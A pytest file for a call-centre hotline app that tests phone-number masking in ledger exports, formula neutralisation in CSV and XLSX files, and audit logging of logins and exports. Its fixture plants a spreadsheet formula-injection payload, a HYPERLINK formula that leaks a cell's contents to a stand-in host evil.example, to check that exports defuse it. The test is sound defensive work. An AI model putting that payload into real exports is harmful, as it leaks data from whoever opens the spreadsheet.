"""Personal data in exports and the audit log (SQLite and PostgreSQL): the ledger CSV masks numbers unless
the exporter's role allows them, no exported cell runs as an Excel formula, and every login, failed
login, export and state change is in the audit log supervisors read and export."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import datetime

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from hotline.api.app import create_app
from hotline.cli import main
from hotline.clock import ManualClock
from hotline.config import Settings
from hotline.runtime.assembly import Database, open_database
from hotline.store.calls import CallRow
from tests.signin import BASE_URL, PASSWORD, add_account, login
from tests.truth import FIXTURES

CONFIG = str(FIXTURES.parent.parent.parent / "config" / "hotline.toml")
DAY = "2026-11-23"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我 click")'
CALLER = "13800138000"  # answered_caller_hangup.ami


@dataclass
class Desk:
    client: httpx.AsyncClient
    db: Database


@pytest.fixture
async def desk(settings: Settings, db_url: str, capsys: pytest.CaptureFixture[str]) -> AsyncIterator[Desk]:
    for trace in ("answered_caller_hangup.ami", "busy.ami"):
        assert main(["replay", str(FIXTURES / trace), "--json", "--db", db_url, "--config", CONFIG]) == 0
    capsys.readouterr()
    db = open_database(db_url)
    with db.factory.begin() as s:  # a caller name and an agent someone typed as a formula
        s.execute(update(CallRow).where(CallRow.caller == CALLER).values(caller_name=EVIL, answered_by="@SUM(1+1)"))
    clock = ManualClock(datetime.fromisoformat(f"{DAY}T18:00:00+08:00"), settings.tz)
    app = create_app(settings, db.factory, clock)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app, client=("10.8.0.7", 5123)),
                                 base_url=BASE_URL) as c:
        yield Desk(c, db)
    db.engine.dispose()


async def ledger_csv(desk: Desk, role: str) -> list[list[str]]:
    await login(desk.client, desk.db.factory, role, None)
    r = await desk.client.get("/api/calls.csv", params={"from": DAY, "to": DAY})
    assert r.status_code == 200
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


async def test_ledger_export_masks_numbers_below_supervisor_and_neutralises_formulas(desk: Desk) -> None:
    for role, shown in (("viewer", "138****8000"), ("staff", "138****8000"), ("supervisor", CALLER)):
        rows = await ledger_csv(desk, role)
        header, lines = rows[0], rows[1:]
        caller = header.index("主叫 Caller")
        line = next(r for r in lines if r[caller] in (CALLER, "138****8000"))
        assert line[caller] == shown, role
        assert all(CALLER not in cell for r in lines for cell in r) or role == "supervisor"
        assert line[header.index("主叫名称 Caller name")] == "'" + EVIL  # text, never a formula
        assert line[header.index("接听坐席 Answered by")] == "'@SUM(1+1)"


async def test_xlsx_export_neutralises_formula_cells(desk: Desk) -> None:
    await login(desk.client, desk.db.factory, "supervisor", None)
    r = await desk.client.get("/api/reports/answer-rate.xlsx", params={"by": "agent", "from": DAY, "to": DAY})
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content))["接通率 Answer rate"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
    assert all(not (isinstance(c, str) and c.startswith(("=", "+", "-", "@"))) for c in cells)


async def test_audit_log_records_logins_exports_and_changes_for_supervisors(desk: Desk) -> None:
    c = desk.client
    add_account(desk.db.factory, "lina", "supervisor", "李娜")
    assert (await c.post("/login", json={"username": "lina", "password": "wrong-password!"})).status_code == 401
    assert (await c.post("/login", json={"username": "nobody", "password": "wrong-password!"})).status_code == 401
    signed = await c.post("/login", json={"username": "lina", "password": PASSWORD})
    c.headers["X-CSRF-Token"] = signed.json()["csrf_token"]
    assert (await c.get("/api/calls.csv", params={"from": DAY})).status_code == 200
    assert (await c.post("/api/incidents", json={})).status_code == 422  # a refused change is recorded too
    entries = (await c.get("/api/audit")).json()
    seen = [(e["actor"], e["action"], e["target"], e["outcome"], e["address"]) for e in reversed(entries)
            if e["action"] != "account_added"]
    assert seen == [
        ("lina", "login_failed", "login", "refused", "10.8.0.7"),
        ("nobody", "login_failed", "login", "refused", "10.8.0.7"),
        ("lina", "login", "login", "ok", "10.8.0.7"),
        ("lina", "export", "GET /api/calls.csv", "200", "10.8.0.7"),
        ("lina", "change", "POST /api/incidents", "422", "10.8.0.7"),
    ]
    export = next(e for e in entries if e["action"] == "export")
    assert export["person"] == "李娜" and f"from={DAY}" in export["detail"] and "role=supervisor" in export["detail"]
    assert export["at"].startswith(f"{DAY}T18:00:00+08:00")

    r = await c.get("/api/audit.csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0] == ["at", "actor", "person", "address", "action", "target", "outcome", "detail"]
    assert any(row[1] == "nobody" and row[4] == "login_failed" for row in rows)

    await login(c, desk.db.factory, "staff", "张伟")
    assert (await c.get("/api/audit")).status_code == 403
    await login(c, desk.db.factory, "viewer", None)
    assert (await c.get("/api/audit.csv")).status_code == 403
